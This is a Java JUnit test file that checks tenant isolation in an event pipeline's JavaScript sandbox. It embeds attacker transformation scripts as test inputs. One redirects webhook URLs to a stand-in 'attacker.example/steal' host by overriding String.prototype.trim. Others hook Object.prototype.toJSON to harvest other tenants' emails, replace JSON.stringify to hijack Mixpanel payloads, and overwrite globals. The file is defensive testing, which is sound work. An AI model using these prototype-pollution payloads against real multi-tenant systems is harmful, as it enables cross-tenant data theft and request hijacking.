package dev.eventpipe.transformer.user;

import static org.assertj.core.api.Assertions.assertThat;

import dev.eventpipe.model.json.Json;
import dev.eventpipe.transformer.StubConfigBackend;
import dev.eventpipe.transformer.contract.TransformRequestItem;
import dev.eventpipe.transformer.contract.TransformResponseItem;
import dev.eventpipe.transformer.destination.DestinationCatalog;
import dev.eventpipe.transformer.destination.DestinationTransformer;
import dev.eventpipe.transformer.sandbox.ContextPool;
import dev.eventpipe.transformer.sandbox.JsEngine;
import dev.eventpipe.transformer.sandbox.SandboxProperties;
import io.micrometer.core.instrument.simple.SimpleMeterRegistry;
import java.time.Duration;
import java.util.List;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/**
 * Attacks of one tenant on another through the script sandbox (security review P0-1, the vectors of
 * {@code shared/reviews/poc/pollution.mjs} and {@code mixpanel-json.mjs}). Each test lets an attacker's
 * transformation (or code test) run first, then runs a victim's transformation or destination and checks that the
 * victim's result is untouched. One script thread, so on a shared realm every attack would land.
 */
class TenantIsolationTest {
    private static final JsonMapper JSON = Json.mapper();
    private static final StubConfigBackend BACKEND = StubConfigBackend.INSTANCE;
    private static ContextPool pool;
    private static UserTransformer user;
    private static DestinationTransformer destinations;
    private static TransformationTester tester;

    @BeforeAll
    static void start() {
        pool = new ContextPool(new JsEngine(SandboxProperties.defaults().withPoolSize(1)));
        SimpleMeterRegistry metrics = new SimpleMeterRegistry();
        CodeStore codes = new CodeStore(
                new ConfigBackendProperties(BACKEND.url(), StubConfigBackend.TOKEN, Duration.ofSeconds(10)), 100, JSON);
        user = new UserTransformer(pool, codes, JSON, metrics);
        destinations = new DestinationTransformer(pool, new DestinationCatalog(JSON), JSON, metrics);
        tester = new TransformationTester(ContextPool.sharing(pool.engine(), 1, 0, "test"), JSON);
    }

    @AfterAll
    static void stop() {
        tester.close();
        pool.close();
    }

    @Test
    void aReplacedStringPrototypeMethodDoesNotRedirectAnotherTenantsWebhook() {
        String attack = """
                const realTrim = String.prototype.trim;
                try {
                  String.prototype.trim = function () {
                    const s = realTrim.call(this);
                    return /^https?:/.test(s) ? 'https://attacker.example/steal?orig=' + encodeURIComponent(s) : s;
                  };
                } catch (ignored) {}
                export function transformEvent(e) { return e; }""";
        transform("iso-trim", attack, "{\"messageId\":\"a1\"}");
        tester.test(attack, List.of(JSON.readTree("{\"messageId\":\"a2\"}")));
        JsonNode delivery = webhookDelivery();
        assertThat(delivery.path("endpoint").asString()).isEqualTo("https://victim.example/hook");
        assertThat(delivery.path("headers").path("Authorization").asString()).isEqualTo("Bearer victim-secret");
    }

    @Test
    void anObjectPrototypeToJsonHookDoesNotCollectAnotherTenantsEvents() {
        String attack = """
                globalThis.__stash = globalThis.__stash || [];
                try {
                  Object.defineProperty(Object.prototype, 'toJSON', { configurable: true, writable: true,
                    value: function () {
                      if (this && this.messageId) globalThis.__stash.push(this.messageId + ':'
                          + (this.context && this.context.traits && this.context.traits.email));
                      return this;
                    } });
                } catch (ignored) {}
                export function transformEvent(e) { e.leaked = globalThis.__stash.slice(); return e; }""";
        transform("iso-tojson", attack, "{\"messageId\":\"a1\"}");
        JsonNode victim = transform(
                "iso-victim-1",
                "export function transformEvent(e) { return e; }",
                "{\"messageId\":\"v1\",\"context\":{\"traits\":{\"email\":\"ceo@victim.example\"}}}");
        assertThat(victim.path("context").path("traits").path("email").asString())
                .isEqualTo("ceo@victim.example");
        webhookDelivery();
        JsonNode second = transform("iso-tojson", attack, "{\"messageId\":\"a2\"}");
        assertThat(second.path("leaked").toString()).doesNotContain("v1").doesNotContain("victim");
    }

    @Test
    void aToJsonThatReturnsUndefinedDoesNotBreakAnotherTenantsOutput() {
        String attack = """
                try { Object.prototype.toJSON = function () { return undefined; }; } catch (ignored) {}
                export function transformEvent(e) { return e; }""";
        tester.test(attack, List.of(JSON.readTree("{\"messageId\":\"a1\"}")));
        transform("iso-undefined", attack, "{\"messageId\":\"a2\"}");
        JsonNode victim = transform(
                "iso-victim-2",
                "export function transformEvent(e) { e.ok = true; return e; }",
                "{\"messageId\":\"v\"}");
        assertThat(victim.path("ok").asBoolean()).isTrue();
        assertThat(webhookDelivery().path("endpoint").asString()).isEqualTo("https://victim.example/hook");
    }

    @Test
    void aReplacedJsonStringifyDoesNotRewriteAnotherTenantsMixpanelBody() {
        String attack = """
                try {
                  JSON.stringify = () => '[{"event":"hijacked","properties":{"token":"attacker-token"}}]';
                } catch (ignored) {}
                export function transformEvent(e) { return e; }""";
        transform("iso-json", attack, "{\"messageId\":\"a1\"}");
        tester.test(attack, List.of(JSON.readTree("{\"messageId\":\"a2\"}")));
        List<TransformResponseItem> answer = destinations.transform("mp", List.of(item("""
                {"type":"track","event":"Purchase","messageId":"v1","userId":"u1","properties":{"revenue":10}}""", """
                {"ID":"d-mp","Config":{"token":"victim-token"}}""")));
        assertThat(answer.getFirst().statusCode()).isEqualTo(200);
        String batch = JSON.readTree(answer.getFirst().output())
                .at("/body/JSON_ARRAY/batch")
                .asString();
        assertThat(batch).contains("victim-token").contains("Purchase").doesNotContain("hijacked");
    }

    @Test
    void replacedGlobalsAndValuesKeptInGlobalThisAreNotSeenByAnotherTenant() {
        String attack = """
                globalThis.hoard = new Array(100000).fill('attacker data');
                try { globalThis.Date = function () { return { getTime: () => 0 }; }; } catch (ignored) {}
                try { Math.random = () => 4; } catch (ignored) {}
                export function transformEvent(e) { return e; }""";
        transform("iso-globals", attack, "{\"messageId\":\"a1\"}");
        tester.test(attack, List.of(JSON.readTree("{\"messageId\":\"a2\"}")));
        JsonNode victim = transform("iso-victim-3", """
                export function transformEvent(e) {
                  e.hoard = typeof globalThis.hoard;
                  e.date = new Date(5).getTime();
                  e.random = Math.random() < 1;
                  return e;
                }""", "{\"messageId\":\"v\"}");
        assertThat(victim.path("hoard").asString()).isEqualTo("undefined");
        assertThat(victim.path("date").asLong()).isEqualTo(5);
        assertThat(victim.path("random").asBoolean()).isTrue();
    }

    @Test
    void builtInPrototypesAreFrozenBeforeUserCodeRuns() {
        JsonNode seen = transform("iso-frozen", """
                export function transformEvent(e) {
                  return { object: Object.isFrozen(Object.prototype), array: Object.isFrozen(Array.prototype),
                           string: Object.isFrozen(String.prototype), json: Object.isFrozen(JSON),
                           error: Object.isFrozen(Error), fn: Object.isFrozen(Function.prototype) };
                }""", "{\"messageId\":\"f\"}");
        assertThat(seen.properties())
                .allSatisfy(
                        e -> assertThat(e.getValue().asBoolean()).as(e.getKey()).isTrue());
    }

    @Test
    void ordinaryCodeStillOverridesInheritedNamesOnItsOwnObjects() {
        JsonNode seen = transform("iso-override", """
                export function transformEvent(e) {
                  const o = {};
                  o.toString = () => 'mine';
                  const err = new Error();
                  err.message = 'changed';
                  err.name = 'Custom';
                  function Thing() {}
                  Thing.prototype.toString = function () { return 'thing'; };
                  e.results = [String(o), err.message, err.name, String(new Thing())];
                  return e;
                }""", "{\"messageId\":\"o\"}");
        assertThat(seen.path("results").toString()).isEqualTo("[\"mine\",\"changed\",\"Custom\",\"thing\"]");
    }

    /** Runs one event through a stored transformation version; returns its output. */
    private static JsonNode transform(String versionId, String code, String event) {
        BACKEND.put(versionId, code);
        TransformRequestItem item =
                JSON.readValue("""
                {"message": %s, "metadata": {"messageId": "m", "sourceId": "s-%s", "destinationId": "d"},
                 "destination": {"Transformations": [{"VersionID": "%s"}]}}""".formatted(event, versionId, versionId), TransformRequestItem.class);
        List<TransformResponseItem> answer = user.transform(List.of(item), false);
        assertThat(answer).hasSize(1);
        assertThat(answer.getFirst().statusCode()).as(answer.getFirst().error()).isEqualTo(200);
        return JSON.readTree(answer.getFirst().output());
    }

    private static JsonNode webhookDelivery() {
        List<TransformResponseItem> answer = destinations.transform("webhook", List.of(item("""
                {"type":"track","event":"Order","messageId":"v2","anonymousId":"x",
                 "context":{"traits":{"email":"ceo@victim.example"}}}""", """
                {"ID":"d-victim","Config":{"webhookUrl":"https://victim.example/hook",
                 "headers":[{"from":"Authorization","to":"Bearer victim-secret"}]}}""")));
        assertThat(answer.getFirst().statusCode()).as(answer.getFirst().error()).isEqualTo(200);
        return JSON.readTree(answer.getFirst().output());
    }

    private static TransformRequestItem item(String message, String destination) {
        return JSON.readValue("""
                {"message": %s, "metadata": {"messageId": "v", "destinationId": "d", "workspaceId": "victim"},
                 "destination": %s}""".formatted(message, destination), TransformRequestItem.class);
    }
}
